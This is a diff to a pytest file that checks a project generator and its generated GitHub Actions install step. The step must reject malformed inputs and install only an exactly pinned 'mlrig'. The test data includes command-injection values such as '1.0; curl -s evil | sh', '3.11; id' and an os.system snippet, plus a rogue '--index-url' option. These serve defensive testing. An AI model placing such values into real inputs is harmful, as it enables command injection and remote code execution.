@@ -74,6 +74,8 @@ BAD_ANSWERS = [
     ("aws_region", "eu-west-1 && id", "not an AWS region"),
     ("stack_kind", "gcp", "not local or aws"),
     ("python_version", "3.11; id", "not a Python version"),
+    ("mlrig_version", "1.0; curl -s evil | sh", "not a version of mlrig"),
+    ("mlrig_version", "1.0 ${{ secrets.X }}", "not a version of mlrig"),
     ("description", 'x"""\nimport os; os.system("id")\n"""', "control character"),
     ("description", 'x""" + __import__("os").system("id") + """', "not one line of plain text"),
     ("mlflow_username", "admin", "not the repository's machine identity 'repo-proj'"),
@@ -157,15 +159,21 @@ def test_a_stack_whose_outputs_would_inject_into_the_workflow_is_refused(
     assert not (tmp_path / "churn").exists()
 
 
-# -- the generated AWS workflow installs only a pinned mlrig --------------------------------------
+# -- the generated AWS workflow installs only an exact mlrig --------------------------------------
+RELEASE = "1.4.2"
+
+
 @pytest.fixture(scope="module")
 def workflow(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
     home = tmp_path_factory.mktemp("home")
     with pytest.MonkeyPatch.context() as mp:
         mp.setenv("MLRIG_HOME", str(home))
+        # rendered by a released mlrig (this checkout's own version is a development one)
+        mp.setattr(bootstrap_render, "__version__", RELEASE)
         src, ref = bootstrap.template_repo()
         dest = tmp_path_factory.mktemp("render") / "churn"
         bootstrap_render.render(src, ref, dest, project="churn", outputs=aws_outputs())
+    assert yaml.safe_load((dest / ".copier-answers.yml").read_text())["mlrig_version"] == RELEASE
     data = yaml.safe_load((dest / WORKFLOW).read_text())
     return dict(data)
 
@@ -179,8 +187,11 @@ def _install_steps(data: dict[str, Any]) -> list[tuple[str, dict[str, Any]]]:
     ]
 
 
-def test_the_workflow_has_no_public_fallback(workflow: dict[str, Any]) -> None:
+def test_the_workflow_pins_the_generating_mlrig_and_has_no_public_fallback(
+    workflow: dict[str, Any],
+) -> None:
     assert workflow["env"]["MLRIG_PIP_SPEC"] == "${{ vars.MLRIG_PIP_SPEC }}"
+    assert workflow["env"]["MLRIG_VERSION"] == RELEASE
     steps = _install_steps(workflow)
     assert sorted(name for name, _ in steps) == ["image", "pipeline", "retrain"]
     for _, step in steps:
@@ -188,20 +199,39 @@ def test_the_workflow_has_no_public_fallback(workflow: dict[str, Any]) -> None:
 
 
 def _run_install(
-    step: dict[str, Any], tmp_path: Path, spec: str | None
-) -> tuple[subprocess.CompletedProcess[str], list[str] | None]:
+    step: dict[str, Any],
+    tmp_path: Path,
+    spec: str | None,
+    version: str = RELEASE,
+    index_lacks: str = "",
+) -> tuple[subprocess.CompletedProcess[str], list[list[str]]]:
     """The step's script under bash as GitHub runs it (-eo pipefail), with a `pip` on PATH
-    that records its arguments instead of installing anything."""
+    that records each call's arguments instead of installing anything; its `download` fails
+    as pip does when the index lacks what is asked (the argument index_lacks names)."""
     bin_dir = tmp_path / "bin"
     bin_dir.mkdir(exist_ok=True)
     calls = tmp_path / "pip-calls"
     calls.unlink(missing_ok=True)
     pip = bin_dir / "pip"
-    pip.write_text(f'#!/bin/sh\nprintf "%s\\n" "$@" > "{calls}"\n')
+    pip.write_text(
+        "#!/bin/bash\n"
+        f'printf "%s\\t" "$@" >> "{calls}"; echo >> "{calls}"\n'
+        'if [ "$1" = download ] && [ -n "$LACKS" ] && [ "${@: -1}" = "$LACKS" ]; then\n'
+        '  echo "ERROR: Could not find a version that satisfies the requirement $LACKS '
+        '(from versions: 0.9.0)" >&2\n'
+        '  echo "ERROR: No matching distribution found for $LACKS" >&2; exit 1\n'
+        "fi\n"
+    )
     pip.chmod(0o755)
     script = tmp_path / "step.sh"
     script.write_text(step["run"])
-    env = {"PATH": f"{bin_dir}:/usr/bin:/bin", "HOME": str(tmp_path)}
+    env = {
+        "PATH": f"{bin_dir}:/usr/bin:/bin",
+        "HOME": str(tmp_path),
+        "RUNNER_TEMP": str(tmp_path),
+        "MLRIG_VERSION": version,
+        "LACKS": index_lacks,
+    }
     if spec is not None:
         env["MLRIG_PIP_SPEC"] = spec
     proc = subprocess.run(
@@ -212,33 +242,76 @@ def _run_install(
         text=True,
         check=False,
     )
-    return proc, calls.read_text().splitlines() if calls.exists() else None
+    recorded = calls.read_text().splitlines() if calls.exists() else []
+    return proc, [line.rstrip("\t").split("\t") for line in recorded]
+
+
+def _installs(job: str, spec: str) -> list[list[str]]:
+    """What the step runs for spec: mlrig alone resolved first, then the install."""
+    requirements = ["-r", "requirements.txt"] if job != "image" else []
+    return [
+        ["download", "-q", "--no-deps", "-d", "RUNNER_TEMP/mlrig-dist", "--", spec],
+        ["install", *requirements, "--", spec],
+    ]
+
+
+def _normalised(calls: list[list[str]], tmp_path: Path) -> list[list[str]]:
+    return [[a.replace(str(tmp_path), "RUNNER_TEMP") for a in call] for call in calls]
+
+
+def test_without_a_spec_the_step_installs_exactly_the_recorded_version(
+    workflow: dict[str, Any], tmp_path: Path
+) -> None:
+    for job, step in _install_steps(workflow):
+        for spec in (None, ""):
+            proc, calls = _run_install(step, tmp_path, spec)
+            assert proc.returncode == 0, (job, proc.stdout, proc.stderr)
+            assert _normalised(calls, tmp_path) == _installs(job, f"mlrig=={RELEASE}"), job
 
 
 REFUSED = [
-    (None, "the repository variable MLRIG_PIP_SPEC is not set"),
-    ("", "the repository variable MLRIG_PIP_SPEC is not set"),
-    ("mlrig", "MLRIG_PIP_SPEC pins no exact version"),
-    ("mlrig>=0.1", "MLRIG_PIP_SPEC pins no exact version"),
-    ("mlrig==0.*", "wildcard"),
-    ("git+https://git.example.com/mlrig.git", "names no tag or commit"),
-    ("git+ssh://git@github.com/acme/mlrig.git", "names no tag or commit"),
-    ("mlrig @ git+https://git.example.com/mlrig.git", "names no tag or commit"),
-    ("--index-url=https://evil.example.com/simple", "is a pip option"),
+    (None, "", "mlrig", "records no mlrig version (mlrig_version in .copier-answers.yml)"),
+    (None, "0.2.dev5+g3f38c5c", "mlrig", "generated by a development mlrig (0.2.dev5+g3f38c5c)"),
+    ("", "1.4.3.dev1", "mlrig", "a development mlrig (1.4.3.dev1) that no package index has"),
+    ("mlrig", RELEASE, "MLRIG_PIP_SPEC", "MLRIG_PIP_SPEC pins no exact version"),
+    ("mlrig>=0.1", RELEASE, "MLRIG_PIP_SPEC", "MLRIG_PIP_SPEC pins no exact version"),
+    ("mlrig==0.*", RELEASE, "MLRIG_PIP_SPEC", "wildcard"),
+    ("git+https://git.example.com/mlrig.git", RELEASE, "MLRIG_PIP_SPEC", "names no tag or commit"),
+    ("git+ssh://git@github.com/acme/mlrig.git", RELEASE, "MLRIG_PIP_SPEC", "no tag or commit"),
+    ("mlrig @ git+https://git.example.com/mlrig.git", RELEASE, "MLRIG_PIP_SPEC", "no tag"),
+    ("--index-url=https://evil.example.com/simple", RELEASE, "MLRIG_PIP_SPEC", "a pip option"),
 ]
 
 
-@pytest.mark.parametrize(("spec", "says"), REFUSED)
+@pytest.mark.parametrize(("spec", "version", "title", "says"), REFUSED)
 def test_the_install_step_fails_closed(
-    workflow: dict[str, Any], tmp_path: Path, spec: str | None, says: str
+    workflow: dict[str, Any], tmp_path: Path, spec: str | None, version: str, title: str, says: str
 ) -> None:
     for job, step in _install_steps(workflow):
-        proc, pip_args = _run_install(step, tmp_path, spec)
+        proc, calls = _run_install(step, tmp_path, spec, version=version)
         assert proc.returncode == 1, (job, proc.stdout, proc.stderr)
-        assert pip_args is None, job  # nothing was installed
+        assert calls == [], job  # nothing was resolved or installed
         (line,) = proc.stdout.strip().splitlines()
-        assert line.startswith("::error title=MLRIG_PIP_SPEC::"), line
-        assert says in line and "mlrig==X.Y.Z" in line, line
+        assert line.startswith(f"::error title={title}::"), line
+        assert says in line and "set the repository variable MLRIG_PIP_SPEC" in line, line
+        assert "mlrig==X.Y.Z" in line, line
+
+
+@pytest.mark.parametrize(
+    ("spec", "lacks"),
+    [(None, f"mlrig=={RELEASE}"), ("mlrig==7.7.7", "mlrig==7.7.7")],
+    ids=["pinned-version-missing", "spec-does-not-resolve"],
+)
+def test_a_version_or_spec_the_index_lacks_is_one_line(
+    workflow: dict[str, Any], tmp_path: Path, spec: str | None, lacks: str
+) -> None:
+    for job, step in _install_steps(workflow):
+        proc, calls = _run_install(step, tmp_path, spec, index_lacks=lacks)
+        assert proc.returncode == 1, (job, proc.stdout, proc.stderr)
+        assert [call[0] for call in calls] == ["download"], job  # nothing installed
+        (line,) = proc.stdout.strip().splitlines()
+        assert f"{lacks} cannot be installed (ERROR: Could not find a version" in line, line
+        assert "publish it to your index or set the repository variable MLRIG_PIP_SPEC" in line
 
 
 PINNED = [
@@ -254,11 +327,11 @@ PINNED = [
 
 
 @pytest.mark.parametrize("spec", PINNED)
-def test_the_install_step_installs_a_pinned_spec_after_the_end_of_options(
+def test_a_pinned_spec_wins_over_the_recorded_version_after_the_end_of_options(
     workflow: dict[str, Any], tmp_path: Path, spec: str
 ) -> None:
     for job, step in _install_steps(workflow):
-        proc, pip_args = _run_install(step, tmp_path, spec)
-        assert proc.returncode == 0, (job, proc.stdout, proc.stderr)
-        requirements = ["-r", "requirements.txt"] if job != "image" else []
-        assert pip_args == ["install", *requirements, "--", spec], job
+        for version in (RELEASE, "0.2.dev5+g3f38c5c"):  # a dev mlrig's repo works with a spec
+            proc, calls = _run_install(step, tmp_path, spec, version=version)
+            assert proc.returncode == 0, (job, proc.stdout, proc.stderr)
+            assert _normalised(calls, tmp_path) == _installs(job, spec), job
